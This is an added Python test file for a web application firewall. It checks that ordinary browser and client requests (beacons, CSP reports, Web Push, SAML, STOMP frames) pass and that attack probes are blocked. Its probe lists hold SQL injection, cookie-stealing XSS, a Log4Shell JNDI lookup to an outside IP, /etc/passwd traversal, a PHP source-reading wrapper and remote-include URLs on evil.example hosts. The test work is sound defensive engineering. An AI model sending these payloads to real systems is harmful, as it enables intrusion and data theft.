@@ -1,0 +1,226 @@
+"""Stop 22 (issue 13, ADR 0019): what modern browsers and clients send, through the real tier.
+
+text/plain bodies (sendBeacon, fetch with a string) are allowed at every profile and read: as JSON when
+they are JSON, whole by CRS's own paranoia-1 attack rules when they are not. Browser reports are read at
+paranoia level 1 when, and only when, they have a report's shape. Each corpus-D fix passes its ordinary
+request and still reads a probe on the same target.
+"""
+
+from __future__ import annotations
+
+import json
+import urllib.parse
+import uuid
+
+import pytest
+
+from tests.waf import attacks
+from tests.waf.conftest import Tier
+from tests.waf.factory import BLOCKING, GATEWAY, profile_host
+from tests.waf.harness import Req, as_citizens, rules_by_test_id, send
+
+pytestmark = pytest.mark.slow
+
+TEXT = {**attacks.BASE, "Content-Type": "text/plain;charset=UTF-8"}
+FORM = {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"}
+JSON = {**attacks.BASE, "Content-Type": "application/json"}
+
+
+def _q(s: str) -> str:
+    return urllib.parse.quote(s, safe="")
+
+
+def _run(tier: Tier, profile: str, reqs: list[Req], logged: tuple[int, ...] = ()
+         ) -> tuple[list[int], dict[str, list[str]], list[str]]:
+    """Statuses, rule ids per request (waiting for the refused ones and those at ``logged``), request ids."""
+    ids = [uuid.uuid4().hex for _ in reqs]
+    tagged = as_citizens([Req(r.method, r.path, {**r.headers, "X-Test-Id": i}, r.body, r.label)
+                          for r, i in zip(reqs, ids, strict=True)])
+    statuses = [send(tier.port, profile_host(profile), q, source=GATEWAY).status for q in tagged]
+    expect = [i for n, (i, s) in enumerate(zip(ids, statuses, strict=True)) if s != 200 or n in logged]
+    return statuses, rules_by_test_id(tier.nginx, expect), ids
+
+
+# --- text/plain ----------------------------------------------------------------------------------
+
+ORDINARY_TEXT = [
+    ("web-vitals JSON", json.dumps({"name": "INP", "value": 200, "rating": "good", "id": "v5-1796190915826-53",
+                                    "attribution": {"interactionTarget": "div#main>ul.list>li:nth-child(3)>a"}})),
+    ("a comment as JSON text", json.dumps({"articleId": 847260, "nickname": "市民",
+                                           "content": "建议增加周末延时服务窗口。"}, ensure_ascii=False)),
+    ("k=v beacon (not JSON)", "sid=a65d62dfb56fcb9b&pv=2&url=" + _q("https://www.example.gov.cn/zwgk/") + "&title="
+     + _q("关于公开征求意见的公告")),
+    ("an error-monitor envelope (one JSON document per line)",
+     '{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-12-04T08:00:00.000Z"}\n{"type":"event"}\n'
+     '{"exception":{"values":[{"type":"TypeError",'
+     '"value":"Cannot read properties of undefined (reading \'length\')"}]}}'),
+    ("a SignalR handshake frame (JSON + record separator)", '{"protocol":"json","version":1}\x1e'),
+]
+
+
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_ordinary_text_plain_bodies_pass(tier: Tier, profile: str) -> None:
+    reqs = [Req("POST", "/api/stat/collect", TEXT, body, label) for label, body in ORDINARY_TEXT]
+    statuses, audit, ids = _run(tier, profile, reqs)
+    refused = [(r.label, s, audit.get(i)) for r, s, i in zip(reqs, statuses, ids, strict=True) if s != 200]
+    assert not refused, f"{profile}: {refused}"
+
+
+ATTACK_TEXT = [
+    ("SQLi, raw", "1 union select username,password from admin_user--"),
+    ("SQLi in k=v", "sid=1&q=" + _q("1' or '1'='1' -- ")),
+    ("shell command in k=v (CRS 920420-14's body)", "cmd=/bin/unxz -c /var/log/something_sensitive.xz"),
+    ("XSS, raw", "<img src=x onerror=alert(document.cookie)>"),
+    ("Log4Shell, raw", "${jndi:ldap://203.0.113.5:1389/Exploit}"),
+    ("traversal in an envelope line", '{"type":"event"}\n{"file":"../../../../etc/passwd"}'),
+    ("PHP wrapper, raw", "php://filter/convert.base64-encode/resource=index.php"),
+]
+
+
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_attacks_in_text_plain_that_is_not_json_are_refused(tier: Tier, profile: str) -> None:
+    """Before stop 22 a legacy-cms site served all of these (text/plain had no body processor)."""
+    reqs = [Req("POST", "/api/stat/collect", TEXT, body, label) for label, body in ATTACK_TEXT]
+    statuses, audit, ids = _run(tier, profile, reqs)
+    served = [r.label for r, s in zip(reqs, statuses, strict=True) if s != 403]
+    assert not served, f"{profile}: served {served}"
+    # read by CRS's own rules, in the whole body (not by a platform copy of them)
+    assert all(any(rule.startswith("9") for rule in audit.get(i, [])) for i in ids), audit
+
+
+def test_malformed_json_is_still_refused_and_text_is_not(tier: Tier) -> None:
+    reqs = [Req("POST", "/api/x", JSON, '{"a": "b"', "json"), Req("POST", "/api/x", TEXT, '{"a": "b"', "text")]
+    statuses, _, _ = _run(tier, "strict", reqs)
+    assert statuses == [400, 200]
+
+
+def test_other_bodies_are_not_read_twice(tier: Tier) -> None:
+    """200013 takes REQUEST_BODY back out of the paranoia-1 rules for every body but unparsed text/plain:
+    a form or JSON attack is found in its argument, never also in the raw body (double scores, and the
+    raw body's separators and quotes would be read as attacks)."""
+    payload = "1 union select username,password from admin_user--"
+    reqs = [Req("POST", "/api/x", FORM, "a=1&q=" + _q(payload), "form"),
+            Req("POST", "/api/x", JSON, json.dumps({"a": 1, "q": payload}), "json"),
+            Req("POST", "/api/x", TEXT, payload, "text")]
+    statuses, _, ids = _run(tier, "standard", reqs)
+    assert statuses == [403, 403, 403]
+    where: dict[str, set[str]] = {}
+    for e in tier.nginx.audit_entries():
+        t = e["transaction"]
+        tid = t["request"]["headers"].get("X-Test-Id")
+        for m in t.get("messages", []):
+            data = m["details"]["data"]
+            if tid in ids and " found within " in data:
+                where.setdefault(tid, set()).add(data.split(" found within ")[1].split(":")[0])
+    assert "REQUEST_BODY" not in where[ids[0]] | where[ids[1]], where
+    assert where[ids[2]] == {"REQUEST_BODY"}, where
+
+
+# --- browser reports -------------------------------------------------------------------------------
+
+CSP = {**attacks.BASE, "Content-Type": "application/csp-report"}
+REPORTS = {**attacks.BASE, "Content-Type": "application/reports+json"}
+POLICY = ("default-src 'self'; img-src 'self' data:; script-src 'self' 'nonce-lzQ3' https://hm.baidu.com; "
+          "report-uri /csp")
+LEGACY_REPORT = {"csp-report": {"document-uri": "https://www.example.gov.cn/zwgk/", "referrer": "",
+                                "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
+                                "original-policy": POLICY, "disposition": "enforce", "blocked-uri": "inline",
+                                "status-code": 200, "script-sample": "window.dataLayer=window.dataLayer||[];"}}
+API_REPORTS = [{"type": "csp-violation", "age": 12, "url": "https://www.example.gov.cn/", "user_agent": "Mozilla/5.0",
+                "body": {"documentURL": "https://www.example.gov.cn/", "blockedURL": "https://hm.baidu.com/hm.js?x",
+                         "effectiveDirective": "script-src-elem", "originalPolicy": POLICY, "sample": "",
+                         "disposition": "enforce", "statusCode": 200}},
+               {"type": "network-error", "age": 3, "url": "https://www.example.gov.cn/a.css", "user_agent": "x",
+                "body": {"phase": "application", "protocol": "http/1.1", "server_ip": "", "status_code": 502,
+                         "type": "http.error", "elapsed_time": 41, "method": "GET", "referrer": "",
+                         "sampling_fraction": 1}}]
+
+
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_browser_reports_pass(tier: Tier, profile: str) -> None:
+    reqs = [Req("POST", "/csp-report", CSP, json.dumps(LEGACY_REPORT), "csp-report"),
+            Req("POST", "/reports?key=ab12-cd34", REPORTS, json.dumps(API_REPORTS), "reports+json")]
+    statuses, audit, ids = _run(tier, profile, reqs)
+    assert statuses == [200, 200], [audit.get(i) for i in ids]
+
+
+PL2_ONLY = "<b>重要</b>"  # 10320 (941320, PL2); no PL1 rule reads it (test_engine.test_paranoia_is_per_site...)
+
+
+@pytest.mark.parametrize(("label", "path", "body", "refused"), [
+    ("a report: read at PL1", "/csp-report", {"csp-report": {"document-uri": PL2_ONLY}}, False),
+    ("a report with XSS: PL1 still reads it", "/csp-report",
+     {"csp-report": {"document-uri": "https://x/<script>alert(1)</script>"}}, True),
+    ("a report's shape is required", "/csp-report", {"username": PL2_ONLY}, True),
+    ("one foreign field is enough", "/csp-report", {"csp-report": {"document-uri": PL2_ONLY}, "cmd": "1"}, True),
+    ("a query value that is not a token", "/csp-report?x=" + _q(PL2_ONLY), {"csp-report": {"blocked-uri": "x"}},
+     True),
+])
+def test_a_report_is_read_at_pl1_only_when_it_has_a_reports_shape(tier: Tier, label: str, path: str, body: dict,
+                                                                   refused: bool) -> None:
+    statuses, audit, ids = _run(tier, "strict", [Req("POST", path, CSP, json.dumps(body), label)])
+    assert (statuses[0] == 403) == refused, (label, statuses[0], audit.get(ids[0]))
+
+
+# --- corpus D's fixes: each ordinary request passes, a probe on the same target still fires ------------
+
+_MESSAGE = json.dumps({"text": "请问社保卡补办需要哪些材料？"}, ensure_ascii=False)
+STOMP = json.dumps(["SEND\ndestination:/app/chat\ncontent-type:application/json\n\n" + _MESSAGE + "\x00"],
+                   ensure_ascii=False)
+JDK_ACCEPT = "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"
+D_CASES = [
+    ("10660: a CSS selector is not a tautology", "strict",
+     Req("POST", "/stat/vitals", JSON, json.dumps({"target": "div#main>ul.list>li:nth-child(3)>a"})),
+     Req("POST", "/stat/vitals", JSON, json.dumps({"target": "a.b>c or 1>0"})), "10660"),
+    ("10440: an XPath's //* is not a comment", "strict",
+     Req("POST", "/stat/click", JSON, json.dumps({"xpath": '//*[@id="main"]/ul/li[2]/a'})),
+     Req("POST", "/stat/click", JSON, json.dumps({"xpath": '//*[@id="main"]/ul/li[2]/a or 1=1/*'})), "10440"),
+    ("10440: a push endpoint's token holds --", "strict",
+     Req("POST", "/api/webpush/subscriptions", JSON,
+         json.dumps({"endpoint": "https://updates.push.services.mozilla.com/wpush/v2/gAAAAAzg-4--LTj0VBH4"})),
+     Req("POST", "/api/webpush/subscriptions", JSON, json.dumps({"endpoint": "1 or 1=1-- x"})), "10440"),
+    ("10130: a Web Push service is not off-domain", "strict",
+     Req("POST", "/api/webpush/subscriptions", JSON,
+         json.dumps({"endpoint": "https://fcm.googleapis.com/fcm/send/vgQ_KpIW5no:APA91bUy"})),
+     Req("POST", "/api/webpush/subscriptions", JSON,
+         json.dumps({"endpoint": "https://fcm.googleapis.com.evil.example/shell.txt"})), "10130"),
+    ("10130: SAML's SigAlg is a W3C namespace URI", "strict",
+     Req("GET", "/idp/profile/SAML2/Redirect/SSO?SAMLRequest=hZLNbsIw&SigAlg="
+         + _q("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256") + "&Signature=c9%2FpUp", dict(attacks.BASE)),
+     Req("GET", "/idp/profile/SAML2/Redirect/SSO?SAMLRequest=hZLNbsIw&SigAlg="
+         + _q("http://www.w3.org.evil.example/x.txt"), dict(attacks.BASE)), "10130"),
+    ("10044: WebSub's hub.callback", "strict",
+     Req("POST", "/websub/hub", FORM, "hub.mode=subscribe&hub.topic=" + _q("https://www.example.gov.cn/feed")
+         + "&hub.callback=" + _q("https://rss.example.org/api/websub/9ec9") + "&hub.lease_seconds=86400"),
+     Req("POST", "/websub/hub", FORM, "hub.mode=publish&hub.url=" + _q("https://rss.example.org/shell.txt")),
+     "10130"),
+    ("10041: CAS validation from a backend's HTTP library", "strict",
+     Req("GET", "/cas/p3/serviceValidate?ticket=ST-6920544-8gElGloP-cas01&service="
+         + _q("https://zwfw.example.gov.cn/login/cas"), {"User-Agent": "python-requests/2.32.3", "Accept": "*/*"}),
+     Req("GET", "/search?q=1", {"User-Agent": "python-requests/2.32.3", "Accept": "*/*"}), "913101"),
+    ("10042: the JDK's default Accept", "standard",
+     Req("GET", "/cas/serviceValidate?ticket=ST-3154817-4EQa7vrB-cas01", {"User-Agent": "Java/1.8.0_392",
+                                                                       "Accept": JDK_ACCEPT}),
+     Req("GET", "/cas/serviceValidate?ticket=ST-3154817-4EQa7vrB-cas01", {"User-Agent": "Java/1.8.0_392",
+                                                                       "Accept": JDK_ACCEPT + ", x"}),
+     "920600"),
+    ("10043: a STOMP frame over SockJS", "standard",
+     Req("POST", "/ws/217/x8f2kq1m/xhr_send", TEXT, STOMP),
+     Req("POST", "/api/chat/send", TEXT, STOMP), "920270"),
+]
+
+
+@pytest.mark.parametrize("case", D_CASES, ids=[c[0].split(":")[0] + ":" + c[0].split(": ")[1][:24] for c in D_CASES])
+def test_corpus_d_fix_passes_its_case_and_still_reads_the_probe(tier: Tier, case: tuple) -> None:
+    _, profile, ordinary, probe, rule = case
+    statuses, audit, ids = _run(tier, profile, [ordinary, probe], logged=(1,))
+    assert statuses[0] == 200, (ordinary, audit.get(ids[0]))
+    assert rule in audit.get(ids[1], []), f"{rule} no longer fires on {probe}: {audit.get(ids[1])}"
+
+
+@pytest.mark.parametrize("profile", BLOCKING)
+def test_an_attack_in_a_sockjs_frame_is_refused(tier: Tier, profile: str) -> None:
+    """10043 takes the protocol rules off SockJS frames, not the injection rules."""
+    frame = json.dumps(["SEND\ndestination:/app/chat\n\n" + json.dumps({"text": "<script>alert(1)</script>"}) + "\x00"])
+    statuses, _, _ = _run(tier, profile, [Req("POST", "/ws/217/x8f2kq1m/xhr_send", TEXT, frame)])
+    assert statuses == [403]
